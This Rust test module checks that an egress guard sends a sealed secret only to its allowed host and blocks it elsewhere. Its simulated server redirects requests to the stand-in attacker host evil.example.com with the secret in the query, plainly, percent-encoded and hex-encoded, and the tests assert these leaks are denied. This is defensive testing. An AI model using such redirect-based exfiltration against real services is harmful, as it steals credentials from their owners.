//! Sealed secrets on their way: what arrives where, and what comes back.

use std::collections::BTreeMap;

use vedette_core::{SealedSecret, sealed::read_allowed_hosts};
use vedette_egress::{FetchError, Request, Seals, SessionLimits, Stage};

use super::{
    Outcome,
    world::{PUBLIC, Seen, World, fetch, get, ok, reply},
};

const VALUE: &str = "correct-horse-battery";

/// Its last request is what arrived at another host, if anything did.
struct Case {
    answer: Result<vedette_egress::Response, FetchError>,
    seen: Vec<Seen>,
    records: Vec<vedette_core::RequestRecord>,
    handle: String,
}

async fn run(
    world: &World,
    answer: impl Fn(&Seen) -> Vec<u8> + Send + Sync + 'static,
    request: impl FnOnce(&str) -> Request,
) -> Case {
    world.begin(answer);
    world.names.fall_back_to(&[PUBLIC]);
    let hosts = [
        "api.example.com".to_owned(),
        "http://api.example.com".to_owned(),
    ];
    let secret = SealedSecret {
        value: VALUE.to_owned(),
        allowed_hosts: read_allowed_hosts(&hosts).unwrap(),
    };
    let seals = Seals::new(BTreeMap::from([("KEY".to_owned(), secret)]), || [7; 16]);
    let handle = seals.handles().next().unwrap().1.to_owned();
    let session = world.guard().session_with(SessionLimits::default(), seals);
    let (answer, _) = fetch(&session, request(&handle)).await;
    Case {
        answer,
        seen: world.take_requests(),
        records: session.records(),
        handle,
    }
}

fn with_header(url: &str, handle: &str) -> Request {
    Request {
        headers: vec![("x-key".to_owned(), handle.as_bytes().to_vec())],
        ..get(url)
    }
}

/// Repeats what it was sent.
fn echo(seen: &Seen) -> Vec<u8> {
    let key = seen.header("x-key").unwrap_or_default();
    let body = format!("{} {key}", seen.path());
    reply("200 OK", &format!("x-echo: {key}\r\n"), &body)
}

fn sends_to(location: &'static str) -> impl Fn(&Seen) -> Vec<u8> + Send + Sync {
    move |seen| {
        if seen
            .header("host")
            .is_some_and(|host| host.starts_with("evil"))
            || seen.path() == "/end"
        {
            return ok();
        }
        let location = location.replace("KEY", VALUE);
        reply(
            "307 Temporary Redirect",
            &format!("location: {location}\r\n"),
            "",
        )
    }
}

fn is_denied(case: &Case) -> bool {
    let stage = Stage::Seal;
    matches!(&case.answer, Err(FetchError::Denied { stage: found, .. }) if *found == stage)
}

fn leaks(case: &Case) -> bool {
    let told = format!("{:?} {:?}", case.answer, case.records);
    let bytes = case
        .answer
        .iter()
        .flat_map(|response| &response.body)
        .copied();
    let body = String::from_utf8_lossy(&bytes.collect::<Vec<_>>()).into_owned();
    told.contains(VALUE) || body.contains(VALUE)
}

pub(crate) async fn all() -> Vec<Outcome> {
    let world = World::answering(|_| ok()).await;

    // To its host it goes, and comes back as the handle.
    for url in ["https://api.example.com/a", "http://api.example.com/a"] {
        let case = run(&world, echo, |handle| {
            with_header(&format!("{url}?k={handle}"), handle)
        })
        .await;
        assert_eq!(case.seen[0].header("x-key"), Some(VALUE));
        assert_eq!(case.seen[0].path(), format!("/a?k={VALUE}"));
        assert!(!leaks(&case), "{:?}", case.answer);
        let body = String::from_utf8(case.answer.unwrap().body).unwrap();
        assert_eq!(body, format!("/a?k={0} {0}", case.handle));
    }

    // To no other: not a byte leaves.
    for url in ["https://evil.example.com/", "http://api.example.com:8080/"] {
        let case = run(&world, echo, |handle| with_header(url, handle)).await;
        assert!(is_denied(&case), "{:?}", case.answer);
        assert!(case.seen.is_empty() && world.take_connections().is_empty());
    }

    // A redirect takes it along within its hosts only. To another origin no header goes, a query and a body do.
    let case = run(&world, sends_to("/end"), |handle| {
        with_header("http://api.example.com/", handle)
    })
    .await;
    assert_eq!(case.seen.len(), 2);
    assert_eq!(case.seen[1].header("x-key"), Some(VALUE));
    let case = run(&world, sends_to("http://evil.example.com/"), |handle| {
        with_header("http://api.example.com/", handle)
    })
    .await;
    assert_eq!(case.seen[1].header("x-key"), None);
    let case = run(&world, sends_to("http://evil.example.com/"), |handle| {
        Request {
            method: "POST".to_owned(),
            body: Some(handle.as_bytes().to_vec()),
            ..get("http://api.example.com/")
        }
    })
    .await;
    assert!(
        is_denied(&case) && case.seen.len() == 1,
        "{:?}",
        case.answer
    );

    // A host that sends wherever it is told repeats the value in its answer, in one form or another.
    for location in [
        "http://evil.example.com/?k=KEY",
        "http://evil.example.com/?k=%63orrect-horse-battery",
        "http://evil.example.com/?k=636f72726563742d686f7273652d62617474657279",
    ] {
        let case = run(&world, sends_to(location), |handle| {
            get(format!("http://api.example.com/?to=evil&k={handle}"))
        })
        .await;
        assert_eq!(case.seen.len(), 1, "only the first host: {:?}", case.seen);
        assert!(is_denied(&case) && !leaks(&case), "{:?}", case.answer);
    }
    let case = run(&world, sends_to("http://evil.example.com/KEY/"), |handle| {
        get(format!("http://api.example.com/?k={handle}"))
    })
    .await;
    assert_eq!(case.seen.len(), 1);
    assert!(
        matches!(case.answer, Err(FetchError::InvalidRequest(_))),
        "{:?}",
        case.answer
    );
    Vec::new()
}
